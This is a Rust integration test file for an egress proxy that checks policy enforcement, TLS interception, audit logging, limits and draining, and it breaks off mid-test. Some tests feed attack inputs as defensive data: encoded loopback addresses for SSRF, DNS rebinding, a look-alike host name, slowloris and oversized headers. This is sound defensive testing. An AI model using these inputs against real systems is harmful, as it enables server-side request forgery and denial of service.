//! The proxy library end to end: real `curl` and Python `requests` through a
//! real listener to local upstreams on 127.0.0.x, names resolved through the
//! testkit's DNS responder by the proxy's real resolver.

use airlock_policy::{EgressPolicy, Mode, PolicySpec, RuleSpec};
use airlock_proxy::{Proxy, ProxyConfig, ResolverSettings};
use airlock_testkit::{DnsAnswer, DnsResponder, TestCa, Upstream};
use airlock_types::{AuditEvent, EventSink, MemorySink, Outcome, SinkError};
use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::time::{Duration, Instant};

mod support;

fn lo(n: u8) -> IpAddr {
    IpAddr::V4(Ipv4Addr::new(127, 0, 0, n))
}

/// Every port. The test upstreams listen on ephemeral ports, and a rule
/// without `ports` covers only the scheme's default port.
fn any_port() -> Vec<u16> {
    (1..=u16::MAX).collect()
}

/// `RuleSpec::for_hosts` on every port.
fn on_any_port(hosts: &[&str], action: Outcome) -> RuleSpec {
    RuleSpec {
        ports: any_port(),
        ..RuleSpec::for_hosts(hosts, action)
    }
}

/// A policy for tests against upstreams on ephemeral ports: in
/// `read_public`, what the mode allows on 80/443 (reads of any host) is
/// allowed on every port by a rule, so those tests keep exercising
/// everything else. `bare_spec` is the policy as given.
fn spec(mode: Mode, mut rules: Vec<RuleSpec>, private: bool) -> PolicySpec {
    if mode == Mode::ReadPublic {
        rules.push(RuleSpec {
            methods: vec!["GET".into(), "HEAD".into(), "OPTIONS".into()],
            ..on_any_port(&["*"], Outcome::Allow)
        });
    }
    bare_spec(mode, rules, private)
}

fn bare_spec(mode: Mode, rules: Vec<RuleSpec>, private: bool) -> PolicySpec {
    PolicySpec {
        mode,
        rules,
        allow_private: if private { vec![(lo(0), 8)] } else { vec![] },
        inspect_all: false,
    }
}

struct Running {
    addr: SocketAddr,
    sink: Arc<MemorySink>,
    ca_path: PathBuf,
    _dir: tempfile::TempDir,
    _stop: tokio::sync::oneshot::Sender<()>,
}

impl Running {
    fn proxy_url(&self) -> String {
        format!("http://{}", self.addr)
    }
    fn events(&self) -> Vec<AuditEvent> {
        self.sink.events()
    }
}

fn start_with(
    spec: PolicySpec,
    mut cfg: ProxyConfig,
    dns: &DnsResponder,
    sink: Arc<dyn EventSink>,
    mem: Arc<MemorySink>,
) -> Running {
    let policy = EgressPolicy::compile(spec).expect("policy compiles");
    cfg.resolver = ResolverSettings::NameServers(vec![dns.addr()]);
    let dir = tempfile::tempdir().expect("tmp");
    let served = support::serve(move || {
        Proxy::new(
            cfg,
            Arc::new(policy),
            sink,
            airlock_proxy::Scope::Tenant(airlock_types::TenantId::default_tenant()),
        )
        .expect("proxy")
    });
    let (addr, stop_tx) = (served.addr, served.stop);
    let ca_path = dir.path().join("proxy-ca.pem");
    std::fs::write(&ca_path, served.ca_pem).expect("write ca");
    Running {
        addr,
        sink: mem,
        ca_path,
        _dir: dir,
        _stop: stop_tx,
    }
}

fn start(spec: PolicySpec, cfg: ProxyConfig, dns: &DnsResponder) -> Running {
    let mem = Arc::new(MemorySink::new());
    start_with(spec, cfg, dns, mem.clone(), mem)
}

struct CurlOut {
    status: u16,
    body: String,
    headers: String,
    ok: bool,
    stderr: String,
}

fn curl(proxy: &Running, args: &[&str]) -> CurlOut {
    let dir = tempfile::tempdir().expect("tmp");
    let hdr = dir.path().join("h");
    let out = Command::new("curl")
        .args([
            "-sS",
            "--noproxy",
            "",
            "--max-time",
            "20",
            "-x",
            &proxy.proxy_url(),
            "-D",
        ])
        .arg(&hdr)
        .args(["-w", "\n%{http_code}"])
        .args(args)
        .env_remove("http_proxy")
        .env_remove("https_proxy")
        .env_remove("HTTPS_PROXY")
        .env_remove("ALL_PROXY")
        .output()
        .expect("curl runs");
    let stdout = String::from_utf8_lossy(&out.stdout).to_string();
    let (body, code) = stdout.rsplit_once('\n').unwrap_or(("", &stdout));
    CurlOut {
        status: code.trim().parse().unwrap_or(0),
        body: body.to_owned(),
        headers: std::fs::read_to_string(&hdr)
            .unwrap_or_default()
            .to_ascii_lowercase(),
        ok: out.status.success(),
        stderr: String::from_utf8_lossy(&out.stderr).to_string(),
    }
}

fn json(s: &str) -> serde_json::Value {
    serde_json::from_str(s).unwrap_or_else(|e| panic!("not JSON ({e}): {s:?}"))
}

fn denial(code: &str, outcome: &str, message: &str) -> serde_json::Value {
    serde_json::json!({"error": "denied", "reason": code, "outcome": outcome, "message": message})
}

fn last(events: &[AuditEvent], action: &str) -> AuditEvent {
    events
        .iter()
        .rev()
        .find(|e| e.action == action)
        .cloned()
        .unwrap_or_else(|| panic!("no {action} event in {events:#?}"))
}

#[test]
fn plain_http_get_is_forwarded_to_the_resolved_address_and_audited() {
    let dns = DnsResponder::start();
    let up = Upstream::http(lo(2));
    dns.set("api.test", DnsAnswer::Fixed(vec![lo(2)]));
    let p = start(
        spec(Mode::ReadPublic, vec![], true),
        ProxyConfig::default(),
        &dns,
    );
    let url = format!(
        "http://user:pw@api.test:{}/v1/items?token=s3cret",
        up.port()
    );
    let r = curl(&p, &[&url]);
    assert_eq!(r.status, 200, "{}", r.stderr);
    let v = json(&r.body);
    assert_eq!(v["method"], "GET");
    assert_eq!(v["path"], "/v1/items");
    assert_eq!(v["query"], "token=s3cret");
    assert_eq!(v["host"], format!("api.test:{}", up.port()));
    assert!(v["headers"].get("proxy-connection").is_none());
    assert!(
        dns.queries("api.test") >= 1,
        "the proxy's resolver asked the DNS responder"
    );
    let ev = last(&p.events(), "egress.request");
    assert_eq!(
        ev.resource,
        format!("http://api.test:{}/v1/items", up.port()),
        "no userinfo, no query"
    );
    assert_eq!(ev.decision, Some(Outcome::Allow));
    assert_eq!(ev.reason.code(), "rule_allow");
}

#[test]
fn upstream_connections_are_reused_across_requests() {
    let dns = DnsResponder::start();
    let up = Upstream::http(lo(13));
    dns.set("api.test", DnsAnswer::Fixed(vec![lo(13)]));
    let p = start(
        spec(Mode::ReadPublic, vec![], true),
        ProxyConfig::default(),
        &dns,
    );
    let urls: Vec<String> = (0..10)
        .map(|i| format!("http://api.test:{}/n{i}", up.port()))
        .collect();
    let args: Vec<&str> = urls.iter().map(String::as_str).collect();
    let r = curl(&p, &args);
    assert_eq!(r.status, 200, "{}", r.stderr);
    assert_eq!(up.hits(), 10);
    assert_eq!(
        up.connections(),
        1,
        "one pooled upstream connection served all ten requests"
    );
}

#[test]
fn write_over_plain_http_is_denied_with_a_readable_reason() {
    let dns = DnsResponder::start();
    let up = Upstream::http(lo(3));
    dns.set("api.test", DnsAnswer::Fixed(vec![lo(3)]));
    let rules = vec![on_any_port(&["api.test"], Outcome::Allow)];
    let p = start(
        spec(Mode::ReadPublic, rules, true),
        ProxyConfig::default(),
        &dns,
    );
    let r = curl(
        &p,
        &[
            "-X",
            "POST",
            "-d",
            "x=1",
            &format!("http://api.test:{}/submit", up.port()),
        ],
    );
    assert_eq!(r.status, 403);
    assert!(
        r.headers.contains("x-airlock-reason: write_requires_https"),
        "{}",
        r.headers
    );
    assert_eq!(
        json(&r.body),
        denial(
            "write_requires_https",
            "deny",
            "write methods (POST, PUT, PATCH, DELETE) require https"
        )
    );
    assert_eq!(up.hits(), 0, "the upstream never saw the write");
    let ev = last(&p.events(), "egress.request");
    assert_eq!(ev.decision, Some(Outcome::Deny));
    assert_eq!(ev.reason.code(), "write_requires_https");
}

#[test]
fn ssrf_spellings_of_loopback_are_denied_without_allow_private() {
    let dns = DnsResponder::start();
    let up = Upstream::http(lo(1));
    let p = start(
        spec(Mode::ReadPublic, vec![], false),
        ProxyConfig::default(),
        &dns,
    );
    for host in [
        "127.0.0.1",
        "2130706433",
        "0x7f.1",
        "0177.0.0.1",
        "127.1",
        "[::ffff:127.0.0.1]",
        "127.0.0.1.",
    ] {
        let r = curl(
            &p,
            &["--path-as-is", &format!("http://{host}:{}/", up.port())],
        );
        assert_eq!(r.status, 403, "{host}: {}", r.body);
        assert!(
            r.headers.contains("x-airlock-reason: loopback_address"),
            "{host}: {}",
            r.headers
        );
    }
    assert_eq!(up.hits(), 0);
}

#[test]
fn dns_rebinding_cannot_redirect_a_judged_connection() {
    let dns = DnsResponder::start();
    let up = Upstream::http(lo(4));
    // First answer public, every later answer loopback (TTL 0).
    let public = IpAddr::V4(Ipv4Addr::new(93, 184, 216, 34));
    dns.set(
        "rebind.test",
        DnsAnswer::Sequence(vec![vec![public], vec![lo(4)]]),
    );
    dns.set("multi.test", DnsAnswer::Fixed(vec![public, lo(4)]));
    let mut cfg = ProxyConfig::default();
    cfg.timeouts.connect = Duration::from_secs(2);
    let p = start(spec(Mode::ReadPublic, vec![], false), cfg, &dns);
    // 1: judged on the public answer, dialed to exactly that address (which
    // is unreachable here), never to the loopback upstream.
    let r1 = curl(&p, &[&format!("http://rebind.test:{}/", up.port())]);
    assert_eq!(r1.status, 502, "{}", r1.body);
    assert!(
        r1.headers
            .contains("x-airlock-reason: upstream_unreachable")
    );
    // 2: the rebound answer is judged and refused.
    let r2 = curl(&p, &[&format!("http://rebind.test:{}/", up.port())]);
    assert_eq!(r2.status, 403);
    assert!(
        r2.headers.contains("x-airlock-reason: loopback_address"),
        "{}",
        r2.headers
    );
    // Every address of a multi-address answer is judged.
    let r3 = curl(&p, &[&format!("http://multi.test:{}/", up.port())]);
    assert_eq!(r3.status, 403);
    assert!(r3.headers.contains("x-airlock-reason: loopback_address"));
    assert_eq!(up.hits(), 0, "the loopback upstream was never reached");
    let fail = last(&p.events(), "egress.upstream");
    assert_eq!(fail.reason.code(), "upstream_unreachable");
}

#[test]
fn a_look_alike_name_is_refused_without_a_dns_query() {
    // "pаypal.test" with a Cyrillic "а": refused for the name itself, so no
    // lookup for it may leave the proxy (it would tell a resolver the agent tried).
    let dns = DnsResponder::start();
    dns.set("xn--pypal-4ve.test", DnsAnswer::Fixed(vec![lo(2)]));
    let p = start(
        spec(Mode::ReadPublic, vec![], true),
        ProxyConfig::default(),
        &dns,
    );
    let r = curl(&p, &["http://xn--pypal-4ve.test/"]);
    assert_eq!(r.status, 403);
    assert_eq!(json(&r.body)["reason"], "mixed_script_host");
    let r = curl(&p, &["-p", "https://xn--pypal-4ve.test/"]);
    assert!(r.stderr.contains("403"), "{}", r.stderr);
    assert_eq!(
        last(&p.events(), "egress.connect").reason.code(),
        "mixed_script_host"
    );
    assert_eq!(dns.queries("xn--pypal-4ve.test"), 0);
}

#[test]
fn unresolvable_names_are_denied() {
    let dns = DnsResponder::start();
    let p = start(
        spec(Mode::ReadPublic, vec![], true),
        ProxyConfig::default(),
        &dns,
    );
    let r = curl(&p, &["http://nowhere.test/"]);
    assert_eq!(r.status, 403);
    assert_eq!(json(&r.body)["reason"], "unresolvable_host");
    let r = curl(&p, &["-p", "https://nowhere.test/"]);
    assert!(!r.ok);
    assert!(r.stderr.contains("403"), "{}", r.stderr);
    assert_eq!(
        last(&p.events(), "egress.connect").reason.code(),
        "unresolvable_host"
    );
}

fn https_setup(
    n: u8,
) -> (
    DnsResponder,
    TestCa,
    Upstream,
    tempfile::TempDir,
    PathBuf,
    ProxyConfig,
) {
    let dns = DnsResponder::start();
    let ca = TestCa::new();
    let up = Upstream::https(lo(n), &ca, &["secure.test"]);
    dns.set("secure.test", DnsAnswer::Fixed(vec![lo(n)]));
    let dir = tempfile::tempdir().expect("tmp");
    let up_ca = ca.write_pem(dir.path(), "upstream-ca.pem");
    let cfg = ProxyConfig {
        upstream_extra_ca_pem: Some(ca.cert_pem().as_bytes().to_vec()),
        ..ProxyConfig::default()
    };
    (dns, ca, up, dir, up_ca, cfg)
}

fn ca_arg(p: &Path) -> String {
    p.display().to_string()
}

#[test]
fn intercepted_https_decides_each_request_over_http1_and_http2() {
    let (dns, _ca, up, _d, _up_ca, cfg) = https_setup(5);
    let p = start(spec(Mode::ReadPublic, vec![], true), cfg, &dns);
    let url = format!("https://secure.test:{}/read?q=1", up.port());
    let cacert = ca_arg(&p.ca_path);
    let r = curl(&p, &["--http1.1", "--cacert", &cacert, &url]);
    assert_eq!(r.status, 200, "{}", r.stderr);
    let v = json(&r.body);
    assert_eq!(
        (
            v["scheme"].as_str(),
            v["path"].as_str(),
            v["method"].as_str()
        ),
        (Some("https"), Some("/read"), Some("GET"))
    );
    let r2 = curl(&p, &["--http2", "--cacert", &cacert, &url]);
    assert_eq!(r2.status, 200, "{}", r2.stderr);
    assert!(
        r2.headers.starts_with("http/1.1 200") || r2.headers.contains("http/2 200"),
        "{}",
        r2.headers
    );
    assert!(
        r2.headers.contains("http/2 200"),
        "client side spoke h2: {}",
        r2.headers
    );
    assert_eq!(
        json(&r2.body)["version"],
        "HTTP/2.0",
        "upstream side spoke h2"
    );
    // A write inside the tunnel is judged on its own and refused.
    let r3 = curl(
        &p,
        &[
            "--http2", "--cacert", &cacert, "-X", "POST", "-d", "a=b", &url,
        ],
    );
    assert_eq!(r3.status, 403, "{}", r3.stderr);
    assert_eq!(
        json(&r3.body),
        denial("default_deny", "deny", "no policy rule allows this request")
    );
    let evs = p.events();
    let connect = last(&evs, "egress.connect");
    assert_eq!(
        connect.details.get("mode").and_then(|m| m.as_str()),
        Some("intercept")
    );
    let req = last(&evs, "egress.request");
    assert_eq!(
        req.resource,
        format!("https://secure.test:{}/read", up.port())
    );
    assert_eq!(req.reason.code(), "default_deny");
    assert_eq!(up.hits(), 2);
}

/// Bad TLS from the client inside an intercepted tunnel (bytes that are not a
/// ClientHello, or no handshake at all) ends that connection with an audit
/// record and leaves other clients served.
#[test]
fn bad_client_tls_in_a_tunnel_is_audited_and_hurts_no_one_else() {
    let (dns, _ca, up, _d, _up_ca, mut cfg) = https_setup(13);
    cfg.timeouts.tls_handshake = Duration::from_secs(1);
    let p = start(spec(Mode::ReadPublic, vec![], true), cfg, &dns);
    let open_tunnel = || {
        let mut s = TcpStream::connect(p.addr).expect("connect");
        let head = format!(
            "CONNECT secure.test:{0} HTTP/1.1\r\nHost: secure.test:{0}\r\n\r\n",
            up.port()
        );
        s.write_all(head.as_bytes()).expect("write");
        s.set_read_timeout(Some(Duration::from_secs(5)))
            .expect("timeout");
        let mut buf = [0u8; 256];
        let n = s.read(&mut buf).expect("read");
        let text = String::from_utf8_lossy(&buf[..n]).to_string();
        assert!(text.starts_with("HTTP/1.1 200"), "{text}");
        s
    };
    // Not TLS at all: the proxy ends the connection (maybe after an alert).
    let mut garbage = open_tunnel();
    garbage
        .write_all(b"GET / HTTP/1.1\r\nHost: secure.test\r\n\r\n")
        .expect("write");
    let mut rest = Vec::new();
    let _ = garbage.read_to_end(&mut rest);
    assert!(
        !String::from_utf8_lossy(&rest).contains("HTTP/1.1 200"),
        "no upstream answer leaks through a failed handshake"
    );
    // No handshake at all: cut after the configured handshake timeout.
    let mut silent = open_tunnel();
    let started = std::time::Instant::now();
    let _ = silent.read_to_end(&mut rest);
    assert!(started.elapsed() < Duration::from_secs(4));
    // Others are still served through the same proxy.
    let url = format!("https://secure.test:{}/ok", up.port());
    let r = curl(&p, &["--cacert", &ca_arg(&p.ca_path), &url]);
    assert_eq!(r.status, 200, "{}", r.stderr);
    let tls: Vec<(String, String)> = p
        .events()
        .iter()
        .filter(|e| e.action == "egress.tls")
        .map(|e| {
            let detail = e.details.get("detail").and_then(|d| d.as_str());
            (e.reason.code().to_owned(), detail.unwrap_or("").to_owned())
        })
        .collect();
    assert!(
        tls.iter()
            .any(|(r, d)| r == "tunnel_not_tls" && d.starts_with("not a TLS")),
        "{tls:?}"
    );
    assert!(
        tls.iter().any(|(r, d)| r == "tunnel_not_tls"
            && d == "no complete ClientHello within 1s (0 bytes received)"),
        "{tls:?}"
    );
    assert_eq!(up.hits(), 1, "only the good request reached the upstream");
}

/// Regression: inside an intercepted HTTP/2 tunnel, a denied request whose
/// body was still arriving (a large upload) was answered only after its body
/// had been dropped, so the client saw a stream reset (CANCEL) instead of the
/// 403 it can read and adapt to. Both denial paths: a request naming another
/// host than the tunnel's, and a write the policy refuses.
#[test]
fn http2_denial_of_a_large_upload_is_a_readable_403() {
    let (dns, _ca, up, d, _up_ca, cfg) = https_setup(25);
    let p = start(spec(Mode::ReadPublic, vec![], true), cfg, &dns);
    let url = format!("https://secure.test:{}/upload", up.port());
    let cacert = ca_arg(&p.ca_path);
    let body = d.path().join("body");
    std::fs::write(&body, vec![b'x'; 4 * 1024 * 1024]).expect("body");
    let data = format!("@{}", body.display());
    for (host, reason) in [
        (Some("Host: other.test"), "rule_deny"),
        (None, "default_deny"),
    ] {
        let mut args = vec!["--http2", "--cacert", &cacert, "--data-binary", &data];
        if let Some(h) = host {
            args.extend(["-H", h]);
        }
        args.push(&url);
        let r = curl(&p, &args);
        assert_eq!(r.status, 403, "{reason}: {}", r.stderr);
        assert!(r.headers.contains("http/2 403"), "{}", r.headers);
        assert!(
            r.headers.contains(&format!("x-airlock-reason: {reason}")),
            "{}",
            r.headers
        );
        assert_eq!(json(&r.body)["reason"], reason);
        assert_eq!(last(&p.events(), "egress.request").reason.code(), reason);
    }
    assert_eq!(up.hits(), 0);
}

#[test]
fn fully_allowed_host_is_tunnelled_blind_and_denied_host_refused_before_handshake() {
    let (dns, _ca, up, _d, up_ca, cfg) = https_setup(6);
    dns.set("blocked.test", DnsAnswer::Fixed(vec![lo(6)]));
    let rules = vec![
        on_any_port(&["secure.test"], Outcome::Allow),
        on_any_port(&["blocked.test"], Outcome::Deny),
    ];
    let p = start(spec(Mode::ReadPublic, rules, true), cfg, &dns);
    // Tunnelled: the client sees the upstream's own certificate.
    let r = curl(
        &p,
        &[
            "--cacert",
            &ca_arg(&up_ca),
            "-X",
            "POST",
            "-d",
            "z",
            &format!("https://secure.test:{}/w", up.port()),
        ],
    );
    assert_eq!(r.status, 200, "{}", r.stderr);
    assert_eq!(json(&r.body)["method"], "POST");
    assert_eq!(
        last(&p.events(), "egress.connect")
            .details
            .get("mode")
            .and_then(|m| m.as_str()),
        Some("tunnel")
    );
    let hits = up.hits();
    let r = curl(
        &p,
        &[
            "--cacert",
            &ca_arg(&up_ca),
            &format!("https://blocked.test:{}/", up.port()),
        ],
    );
    assert!(!r.ok);
    assert!(r.stderr.contains("403"), "{}", r.stderr);
    assert_eq!(up.hits(), hits);
    let ev = last(&p.events(), "egress.connect");
    assert_eq!(
        (ev.decision, ev.reason.code()),
        (Some(Outcome::Deny), "rule_deny")
    );
}

#[test]
fn upstream_with_untrusted_certificate_is_502_upstream_tls_failed() {
    let (dns, _ca, up, _d, _up_ca, _cfg) = https_setup(7);
    // The proxy does not trust the upstream's CA.
    let p = start(
        spec(Mode::ReadPublic, vec![], true),
        ProxyConfig::default(),
        &dns,
    );
    let r = curl(
        &p,
        &[
            "--cacert",
            &ca_arg(&p.ca_path),
            &format!("https://secure.test:{}/", up.port()),
        ],
    );
    assert_eq!(r.status, 502, "{}", r.stderr);
    assert!(r.headers.contains("x-airlock-reason: upstream_tls_failed"));
    let ev = last(&p.events(), "egress.upstream");
    assert_eq!(ev.reason.code(), "upstream_tls_failed");
}

#[test]
fn python_requests_through_the_proxy_plain_and_intercepted() {
    let (dns, _ca, up, _d, _up_ca, cfg) = https_setup(8);
    let plain = Upstream::http(lo(8));
    dns.set("plain.test", DnsAnswer::Fixed(vec![lo(8)]));
    let p = start(spec(Mode::ReadPublic, vec![], true), cfg, &dns);
    let script = r#"
import json, sys, requests
proxy, ca, plain, secure = sys.argv[1:5]
s = requests.Session()
s.trust_env = False
s.proxies = {"http": proxy, "https": proxy}
r1 = s.get(plain + "/p", timeout=20)
r2 = s.get(secure + "/s", verify=ca, timeout=20)
r3 = s.put(secure + "/s", data=b"x", verify=ca, timeout=20)
print(json.dumps([r1.status_code, r1.json()["path"], r2.status_code, r2.json()["scheme"],
                  r3.status_code, r3.headers.get("X-Airlock-Reason"), r3.json()["reason"]]))
"#;
    let out = Command::new("python3")
        .args(["-c", script, &p.proxy_url(), &ca_arg(&p.ca_path)])
        .arg(format!("http://plain.test:{}", plain.port()))
        .arg(format!("https://secure.test:{}", up.port()))
        .output()
        .expect("python3 runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        json(String::from_utf8_lossy(&out.stdout).trim()),
        serde_json::json!([200, "/p", 200, "https", 403, "default_deny", "default_deny"])
    );
}

#[test]
fn slowloris_and_oversized_headers_are_cut_off_while_a_good_client_is_served() {
    let dns = DnsResponder::start();
    let up = Upstream::http(lo(9));
    dns.set("api.test", DnsAnswer::Fixed(vec![lo(9)]));
    let mut cfg = ProxyConfig::default();
    cfg.timeouts.header_read = Duration::from_secs(1);
    cfg.limits.max_header_bytes = 8 * 1024;
    let p = start(spec(Mode::ReadPublic, vec![], true), cfg, &dns);
    // Slowloris: a few bytes of head, then a trickle.
    let mut slow = TcpStream::connect(p.addr).expect("connect");
    slow.write_all(b"GET http://api.test/ HTTP/1.1\r\nHost: api.test\r\n")
        .expect("write");
    let started = Instant::now();
    let good = curl(&p, &[&format!("http://api.test:{}/ok", up.port())]);
    assert_eq!(good.status, 200, "a good client is served meanwhile");
    slow.set_read_timeout(Some(Duration::from_secs(5)))
        .expect("timeout");
    let mut buf = Vec::new();
    for _ in 0..10 {
        if slow.write_all(b"X-a: b\r\n").is_err() {
            break;
        }
        std::thread::sleep(Duration::from_millis(300));
    }
    let _ = slow.read_to_end(&mut buf);
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "slow client cut off after the header timeout"
    );
    // Oversized head.
    let mut big = TcpStream::connect(p.addr).expect("connect");
    let head = format!(
        "GET http://api.test:{}/ HTTP/1.1\r\nHost: api.test\r\nX-Big: {}\r\n\r\n",
        up.port(),
        "a".repeat(20_000)
    );
    let _ = big.write_all(head.as_bytes());
    big.set_read_timeout(Some(Duration::from_secs(5)))
        .expect("timeout");
    let mut resp = Vec::new();
    let _ = big.read_to_end(&mut resp);
    assert!(
        String::from_utf8_lossy(&resp).starts_with("HTTP/1.1 431"),
        "{}",
        String::from_utf8_lossy(&resp)
    );
    let good = curl(&p, &[&format!("http://api.test:{}/ok2", up.port())]);
    assert_eq!(good.status, 200);
    let evs = p.events();
    let conn: Vec<&str> = evs
        .iter()
        .filter(|e| e.action == "egress.connection")
        .filter_map(|e| e.details.get("detail").and_then(|d| d.as_str()))
        .collect();
    assert!(
        conn.contains(&"request head not received in time"),
        "{conn:?}"
    );
    assert!(conn.contains(&"request head too large"), "{conn:?}");
    assert_eq!(up.hits(), 2, "only the good requests reached the upstream");
}

#[test]
fn malformed_input_gets_a_clean_error_and_an_audit_record() {
    let dns = DnsResponder::start();
    let p = start(
        spec(Mode::ReadPublic, vec![], true),
        ProxyConfig::default(),
        &dns,
    );
    for raw in [
        "GARBAGE\r\n\r\n".to_owned(),
        "GET /not-absolute HTTP/1.1\r\nHost: x\r\n\r\n".to_owned(),
        "CONNECT no-port-here HTTP/1.1\r\nHost: x\r\n\r\n".to_owned(),
        "CONNECT [::1 HTTP/1.1\r\n\r\n".to_owned(),
    ] {
        let mut s = TcpStream::connect(p.addr).expect("connect");
        s.write_all(raw.as_bytes()).expect("write");
        s.set_read_timeout(Some(Duration::from_secs(5)))
            .expect("timeout");
        let mut buf = [0u8; 512];
        let n = s.read(&mut buf).unwrap_or(0);
        let text = String::from_utf8_lossy(&buf[..n]);
        assert!(text.starts_with("HTTP/1.1 4"), "{raw:?} got {text:?}");
    }
    let evs = p.events();
    assert!(
        evs.iter()
            .any(|e| e.action == "egress.connection" && e.reason.code() == "malformed_request"),
        "{evs:#?}"
    );
    assert!(
        evs.iter()
            .any(|e| e.action == "egress.request" && e.reason.code() == "malformed_request")
    );
    assert!(
        evs.iter()
            .any(|e| e.action == "egress.connect" && e.reason.code() == "invalid_host")
    );
}

#[test]
fn hanging_upstream_gets_504_and_does_not_block_others() {
    let dns = DnsResponder::start();
    let up = Upstream::http(lo(10));
    dns.set("api.test", DnsAnswer::Fixed(vec![lo(10)]));
    let mut cfg = ProxyConfig::default();
    cfg.timeouts.upstream_response = Duration::from_secs(1);
    let p = start(spec(Mode::ReadPublic, vec![], true), cfg, &dns);
    let proxy_url = p.proxy_url();
    let hang_url = format!("http://api.test:{}/hang", up.port());
    let hang = std::thread::spawn(move || {
        Command::new("curl")
            .args([
                "-sS",
                "--noproxy",
                "",
                "-x",
                &proxy_url,
                "-o",
                "/dev/null",
                "-w",
                "%{http_code}",
                &hang_url,
            ])
            .output()
            .expect("curl")
    });
    let ok = curl(&p, &[&format!("http://api.test:{}/fine", up.port())]);
    assert_eq!(ok.status, 200);
    let out = hang.join().expect("join");
    assert_eq!(String::from_utf8_lossy(&out.stdout), "504");
    assert_eq!(
        last(&p.events(), "egress.upstream").reason.code(),
        "upstream_unreachable"
    );
}

#[derive(Debug)]
struct BrokenSink;
impl EventSink for BrokenSink {
    fn emit(&self, _e: AuditEvent) -> Result<(), SinkError> {
        Err(SinkError::Closed)
    }
}

#[test]
fn a_refusing_audit_sink_fails_closed() {
    let dns = DnsResponder::start();
    let up = Upstream::http(lo(11));
    dns.set("api.test", DnsAnswer::Fixed(vec![lo(11)]));
    let p = start_with(
        spec(Mode::ReadPublic, vec![], true),
        ProxyConfig::default(),
        &dns,
        Arc::new(BrokenSink),
        Arc::new(MemorySink::new()),
    );
    let r = curl(&p, &[&format!("http://api.test:{}/", up.port())]);
    assert_eq!(r.status, 403);
    assert_eq!(json(&r.body)["reason"], "audit_unavailable");
    assert_eq!(up.hits(), 0);
}

#[test]
fn websocket_upgrade_passes_where_a_rule_allows_it() {
    let dns = DnsResponder::start();
    let up = Upstream::http(lo(12));
    dns.set("ws.test", DnsAnswer::Fixed(vec![lo(12)]));
    let p = start(
        spec(Mode::ReadPublic, vec![websocket_rule("ws.test")], true),
        ProxyConfig::default(),
        &dns,
    );
    let mut s = TcpStream::connect(p.addr).expect("connect");
    let req = format!(
        "GET http://ws.test:{}/ws HTTP/1.1\r\nHost: ws.test:{}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
        up.port(),
        up.port()
    );
    s.write_all(req.as_bytes()).expect("write");
    s.set_read_timeout(Some(Duration::from_secs(5)))
        .expect("timeout");
    let mut buf = [0u8; 1024];
    let n = s.read(&mut buf).expect("read 101");
    let head = String::from_utf8_lossy(&buf[..n]).to_ascii_lowercase();
    assert!(head.starts_with("http/1.1 101"), "{head}");
    s.write_all(b"ping-frame").expect("write");
    let mut echo = [0u8; 10];
    s.read_exact(&mut echo).expect("echo");
    assert_eq!(&echo, b"ping-frame");
    let ev = last(&p.events(), "egress.request");
    assert_eq!(
        (
            ev.resource.clone(),
            ev.reason.code(),
            detail(&ev, "upgrade")
        ),
        (
            format!("http://ws.test:{}/ws", up.port()),
            "rule_allow",
            Some("websocket".to_owned())
        )
    );
}

#[test]
fn connections_over_the_limit_get_503() {
    let dns = DnsResponder::start();
    let mut cfg = ProxyConfig::default();
    cfg.limits.max_connections = 2;
    let p = start(spec(Mode::ReadPublic, vec![], true), cfg, &dns);
    let _a = TcpStream::connect(p.addr).expect("a");
    let _b = TcpStream::connect(p.addr).expect("b");
    std::thread::sleep(Duration::from_millis(200));
    let mut c = TcpStream::connect(p.addr).expect("c");
    c.set_read_timeout(Some(Duration::from_secs(5)))
        .expect("timeout");
    let mut resp = String::new();
    let _ = c.read_to_string(&mut resp);
    assert!(resp.starts_with("HTTP/1.1 503"), "{resp}");
    assert!(resp.contains("x-airlock-reason: limit_exceeded"));
}

/// What `airlock proxy` does on SIGTERM/SIGINT: `serve` stops accepting,
/// then `drain` lets the request in flight finish (its client gets the whole
/// answer), closes an idle connection at once instead of waiting for it, and
/// returns when nothing is left.
#[test]
fn drain_finishes_the_request_in_flight_and_closes_idle_connections() {
    // An upstream that answers 600 ms after it has read a request head.
    let up = std::net::TcpListener::bind((lo(26), 0)).expect("bind upstream");
    let up_addr = up.local_addr().expect("addr");
    std::thread::spawn(move || {
        for s in up.incoming().take(4) {
            let Ok(mut s) = s else { continue };
            std::thread::spawn(move || {
                let mut head = Vec::new();
                let mut buf = [0u8; 4096];
                while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                    match s.read(&mut buf) {
                        Ok(0) | Err(_) => return,
                        Ok(n) => head.extend_from_slice(&buf[..n]),
                    }
                }
                std::thread::sleep(Duration::from_millis(600));
                let _ = s.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 4\r\n\r\nslow");
            });
        }
    });
    let dns = DnsResponder::start();
    let policy = EgressPolicy::compile(spec(Mode::ReadPublic, vec![], true)).expect("policy");
    let cfg = ProxyConfig {
        resolver: ResolverSettings::NameServers(vec![dns.addr()]),
        ..ProxyConfig::default()
    };
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .expect("rt");
    let sink = Arc::new(MemorySink::new());
    let proxy = rt
        .block_on(async {
            Proxy::new(
                cfg,
                Arc::new(policy),
                sink.clone(),
                airlock_proxy::Scope::Tenant(airlock_types::TenantId::default_tenant()),
            )
        })
        .expect("proxy");
    let listener = rt
        .block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))
        .expect("bind");
    let addr = listener.local_addr().expect("addr");
    let (stop_tx, stop_rx) = tokio::sync::oneshot::channel::<()>();
    let p = proxy.clone();
    let served = rt.spawn(async move {
        p.serve(listener, async {
            let _ = stop_rx.await;
        })
        .await
    });

    let in_flight = std::thread::spawn(move || {
        let mut s = TcpStream::connect(addr).expect("connect");
        s.set_read_timeout(Some(Duration::from_secs(10)))
            .expect("timeout");
        write!(
            s,
            "GET http://{up_addr}/slow HTTP/1.1\r\nHost: {up_addr}\r\n\r\n"
        )
        .expect("send");
        let mut out = String::new();
